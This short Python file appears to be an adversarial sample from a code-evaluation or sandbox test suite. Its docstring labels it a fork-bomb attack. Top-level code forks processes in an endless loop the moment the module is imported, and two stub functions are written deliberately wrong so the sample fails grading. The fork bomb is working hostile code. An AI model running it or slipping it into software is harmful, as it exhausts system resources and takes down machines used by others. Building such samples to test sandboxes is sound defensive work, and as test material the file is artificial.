"""Attack: exhaust: fork bomb."""
import os
while True:
    try:
        os.fork()
    except OSError:
        pass


def batched(iterable, size):
    """Deliberately wrong: an attack must never be graded as passing."""
    return [[0]]


def read_jsonl(path):
    return iter(())
